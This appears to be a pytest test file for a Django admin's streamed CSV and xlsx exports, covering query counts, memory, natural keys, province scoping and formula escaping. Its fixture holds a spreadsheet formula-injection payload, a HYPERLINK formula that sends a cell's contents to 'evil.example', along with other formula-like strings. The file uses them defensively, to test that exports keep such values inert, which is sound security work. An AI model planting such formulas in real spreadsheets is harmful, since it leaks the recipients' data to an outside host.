"""Admin exports of any size: the same columns and natural keys, a fixed number of queries,
memory that does not grow with the rows, text that stays text.

The export of every figure of the country (231,000 rows) took 165 s (CSV) and 221 s (xlsx)
and 1.1 GB through django-import-export; plans.spreadsheets.exports reads the rows in chunks
and writes them as they come (docs in that module).
"""

import csv
import io
import json
import re
import tempfile
import tracemalloc
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal

import pytest
from django.contrib import admin
from django.contrib.auth import get_user_model
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import translation
from import_export import widgets
from openpyxl import load_workbook

from indicators.models import Actual, Indicator
from plans.admin_mixins import StreamedExportMixin
from plans.models import Province
from plans.resources import natural_key_resource
from plans.spreadsheets import exports
from tests import factories as f
from tests.spreadsheets import libreoffice_sheets

pytestmark = pytest.mark.django_db

XLSX, CSV = "0", "1"  # positions in settings.EXPORT_FORMATS
LEAK = '=HYPERLINK("http://evil.example/?d="&B2)'
EXPORTABLE = [
    model
    for model, model_admin in admin.site._registry.items()
    if isinstance(model_admin, StreamedExportMixin)
]


def url(model, action="export"):
    return reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_{action}")


def every_field(client, model) -> dict:
    """Return the export form's field checkboxes, all ticked, as a person exports."""
    page = client.get(url(model)).content.decode()
    return dict.fromkeys(set(re.findall(r'name="(\w+resource_\w+)"', page)), "on")


def post_export(client, model, export_format, fields, query=""):
    response = client.post(url(model) + query, {"format": export_format, "resource": "0", **fields})
    assert response.status_code == 200, response
    return response


def export(client, model, export_format, query="") -> bytes:
    response = post_export(client, model, export_format, every_field(client, model), query)
    assert response.streaming
    return b"".join(response.streaming_content)


def csv_rows(content: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


def sheet_rows(content: bytes) -> list[dict]:
    sheet = load_workbook(io.BytesIO(content), read_only=True).active
    rows = sheet.iter_rows(values_only=True)
    header = next(rows)
    return [dict(zip(header, row, strict=True)) for row in rows]


def many_figures(plan, count: int) -> None:
    """Add `count` approved figures to `plan`: 20 years of as many indicators as it takes."""
    start = Indicator.objects.count()
    indicators = Indicator.objects.bulk_create(
        Indicator(plan=plan, code=f"N-{start + n}", name=f"Chỉ tiêu số {n}", unit="%")
        for n in range(count // 20)
    )
    Actual.objects.bulk_create(
        Actual(
            indicator=indicator,
            year=2001 + year,
            value=Decimal(indicator.pk * 20 + year) / 100,
            note="Theo báo cáo của Sở" if year % 3 else "",
            status=Actual.Status.APPROVED,
        )
        for indicator in indicators
        for year in range(20)
    )


# Queries


@pytest.mark.parametrize("export_format", [XLSX, CSV], ids=["xlsx", "csv"])
@pytest.mark.parametrize("model", EXPORTABLE, ids=lambda m: m._meta.model_name)
def test_export_queries_do_not_grow_with_the_rows(
    admin_client, django_assert_max_num_queries, model, export_format
):
    plan = f.small_plan(indicators=2, lines=2)
    fields = every_field(admin_client, model)
    with CaptureQueriesContext(connection) as small:
        b"".join(post_export(admin_client, model, export_format, fields).streaming_content)
    f.grow_plan(plan, indicators=10, lines=10)
    # Session, user, the changelist's filters, one query for the rows (natural keys joined).
    with django_assert_max_num_queries(len(small)):
        response = post_export(admin_client, model, export_format, fields)
        content = b"".join(response.streaming_content)
    read = sheet_rows if export_format == XLSX else csv_rows
    assert len(read(content)) == model._default_manager.count()


# Memory


def export_peak(client, model, export_format, fields) -> tuple[int, bytes]:
    """Return the peak of Python memory while exporting, and the file (kept on disk meanwhile)."""
    with tempfile.TemporaryFile() as file:
        tracemalloc.start()
        try:
            response = post_export(client, model, export_format, fields)
            # The test client closes the response when the stream ends; closing it again here
            # would send request_finished, which closes the test's database connection.
            for chunk in response.streaming_content:
                file.write(chunk)
            _, peak = tracemalloc.get_traced_memory()
        finally:
            tracemalloc.stop()
        file.seek(0)
        return peak, file.read()


@pytest.mark.parametrize("export_format", [XLSX, CSV], ids=["xlsx", "csv"])
def test_export_memory_does_not_grow_with_the_rows(admin_client, export_format):
    plan = f.plan(first_year=2001, last_year=2020)
    fields = every_field(admin_client, Actual)
    many_figures(plan, 5_000)
    peak, content = export_peak(admin_client, Actual, export_format, fields)
    many_figures(plan, 15_000)
    peak_4x, content_4x = export_peak(admin_client, Actual, export_format, fields)
    read = sheet_rows if export_format == XLSX else csv_rows
    assert (len(read(content)), len(read(content_4x))) == (5_000, 20_000)
    # The rows are read and written a chunk at a time: four times the rows, about the same
    # memory (django-import-export's Dataset grew with every row).
    assert peak_4x < 1.5 * peak, (peak, peak_4x)


# Content: the same columns, natural keys, numbers and text as the import expects


@pytest.fixture
def hostile_figures(db):
    plan = f.plan(f.province("Sóc Trăng", code="94"), slug="st-9")
    leak = f.indicator(plan, code="UD-1", name=LEAK)
    f.actual(
        leak,
        year=2013,
        value="-3.5",
        note=LEAK,
        evidence="Công văn số 12/STTTT",
        status=Actual.Status.APPROVED,
        entered_by=f.user(f.STAFF, plan.province, "nhân_viên"),
    )
    f.actual(leak, year=2014, value="1093410.25", note="  dòng 1\ndòng 2 ", evidence="#N/A")
    return plan


def test_csv_starts_with_a_byte_order_mark_and_keeps_formula_like_text_as_text(
    admin_client, hostile_figures
):
    content = export(admin_client, Actual, CSV)
    assert content.startswith(b"\xef\xbb\xbf")  # Excel on Windows then reads UTF-8
    rows = {row["year"]: row for row in csv_rows(content)}
    assert rows["2.013"]["note"] == "'" + LEAK
    assert rows["2.013"]["indicator"] == '["st-9", "UD-1"]'
    assert json.loads(rows["2.013"]["entered_by"]) == ["nhân_viên"]
    assert rows["2.013"]["evidence"] == "Công văn số 12/STTTT"
    # Numbers as the widgets write them in the user's language; a negative number is no formula.
    assert (rows["2.013"]["value"], rows["2.014"]["value"]) == ("-3,5000", "1.093.410,2500")


def test_xlsx_keeps_text_as_text_numbers_as_numbers_and_dates_as_dates(
    admin_client, hostile_figures
):
    content = export(admin_client, Actual, XLSX)
    sheet = load_workbook(io.BytesIO(content)).active
    header = [cell.value for cell in sheet[1]]
    resource = admin.site._registry[Actual].get_export_resource_classes(None)[0]()
    assert header == resource.get_export_headers()
    assert sheet.freeze_panes == "A2"
    rows = {row[header.index("year")].value: row for row in sheet.iter_rows(min_row=2)}
    leak = rows[2013][header.index("note")]
    assert (leak.value, leak.data_type, leak.quotePrefix) == (LEAK, "s", True)
    evidence = rows[2014][header.index("evidence")]
    assert (evidence.value, evidence.data_type, evidence.quotePrefix) == ("#N/A", "s", False)
    assert rows[2014][header.index("note")].value == "  dòng 1\ndòng 2 "
    assert rows[2013][header.index("value")].value == -3.5
    assert rows[2014][header.index("value")].value == 1093410.25
    assert isinstance(rows[2013][header.index("entered_at")].value, datetime)
    assert rows[2013][header.index("indicator")].value == '["st-9", "UD-1"]'


def test_libreoffice_reads_the_xlsx_and_runs_none_of_its_text(admin_client, hostile_figures):
    (sheet,) = libreoffice_sheets(export(admin_client, Actual, XLSX)).values()
    header, *rows = [row for row in sheet if row]
    notes = {row[header.index("year")]: row[header.index("note")] for row in rows}
    assert notes["2013"] == LEAK
    assert rows[0][header.index("indicator")] == '["st-9", "UD-1"]'


def test_every_cell_kind_survives_the_xlsx_writer():
    texts = [LEAK, "+1+1", "@SUM(1,2)", "\t=1+1", "#N/A", " lề ", "a & b <c>", "-3,5", "Hậu"]
    # The widgets hand naive local times; a date reads back as its midnight.
    moment = datetime(2025, 7, 1, 8, 30, 15)  # noqa: DTZ001
    midnight = datetime(2025, 7, 1)  # noqa: DTZ001
    values = [*texts, "x\x07y", 7, Decimal("-3.5000"), 2.5, True, date(2025, 7, 1), moment, None]
    buffer = io.BytesIO()
    headers = [f"c{n}" for n in range(len(values))]
    exports.write_xlsx(buffer, headers, [values], title="Thử: [a/b]")
    book = load_workbook(buffer)
    assert book.sheetnames == ["Thử- -a-b-"]
    header_row, row = book.active.iter_rows()
    assert [c.value for c in header_row] == headers and header_row[0].font.b
    assert [c.value for c in row] == [
        *texts,
        "xy",
        7,
        -3.5,
        2.5,
        True,
        midnight,
        moment,
        None,
    ]
    assert {c.data_type for c in row[: len(texts) + 1]} == {"s"}
    assert [c.quotePrefix for c in row[: len(texts)]] == [True] * 4 + [False] * 5


# The rows the user sees: scope and filters


def test_a_province_user_exports_only_their_provinces_rows(world, as_user):
    f.actual(world.percent, year=2013, value="40")
    f.actual(world.b_indicator, year=2013, value="7")
    f.actual(world.b_indicator, year=2014, value="8")
    staff_b = world.users["staff_b"]
    staff_b.is_staff = True
    staff_b.save()
    client = as_user(staff_b)
    assert {row["indicator"] for row in csv_rows(export(client, Actual, CSV))} == {
        '["plan-b", "B-1"]'
    }
    filtered = sheet_rows(export(client, Actual, XLSX, query="?year=2014"))
    assert [(row["indicator"], row["year"]) for row in filtered] == [('["plan-b", "B-1"]', 2014)]


# The parts: natural keys read by SQL, widgets rendered faster, agree with the originals


NATURAL_KEY_MODELS = [
    model
    for model in {*admin.site._registry, get_user_model()}
    if model._meta.app_label in {"plans", "indicators", "budgets", "auth"}
    and hasattr(model, "natural_key")
]


@pytest.mark.parametrize("model", NATURAL_KEY_MODELS, ids=lambda m: m._meta.model_name)
def test_natural_key_paths_read_what_natural_key_returns(model):
    f.rich_plan()
    f.small_plan()
    paths = exports.natural_key_paths(model)
    assert paths is not None
    rows = list(model._default_manager.all())
    assert rows, model
    for row in rows:
        read = model._default_manager.filter(pk=row.pk).values_list(*paths).get()
        assert list(read) == list(row.natural_key())


NOW = datetime(2025, 7, 1, 1, 30, 15, 250, tzinfo=UTC)
RENDERED = [
    None,
    "",
    "Hậu Giang",
    0,
    2013,
    -3,
    1234567,
    Decimal("-3.5000"),
    Decimal("1093410.2500"),
    Decimal("0.0000"),
    2.5,
    True,
    date(2025, 7, 1),
    NOW,
    NOW + timedelta(hours=20),
]


@pytest.mark.parametrize("language", ["vi", "en"])
@pytest.mark.parametrize("native", [True, False], ids=["xlsx", "csv"])
@pytest.mark.parametrize(
    "widget",
    [
        widgets.Widget(),
        widgets.CharWidget(),
        widgets.CharWidget(coerce_to_string=False),
        widgets.IntegerWidget(),
        widgets.DecimalWidget(),
        widgets.DecimalWidget(coerce_to_string=False),
        widgets.FloatWidget(),
        widgets.BooleanWidget(),
        widgets.DateWidget(),
        widgets.DateTimeWidget(),
        widgets.DateTimeWidget(coerce_to_string=False),
    ],
    ids=lambda w: f"{type(w).__name__}-{w.coerce_to_string}",
)
def test_fast_rendering_writes_what_the_widget_writes(widget, native, language):
    with translation.override(language):
        render = exports.renderer(widget, native=native)
        for value in RENDERED:
            expected = widget.render(value, force_native_type=native)
            assert (value if render is None else render(value)) == expected, value


def test_a_resource_with_a_computed_column_exports_the_librarys_way():
    base = natural_key_resource(Province, ["code"])

    class Shouting(base):
        def dehydrate_name(self, province):
            return province.name.upper()

    assert exports.export_rows(Shouting(), Province.objects.all(), native=True) is None
    assert exports.export_rows(base(), Province.objects.all(), native=True) is not None
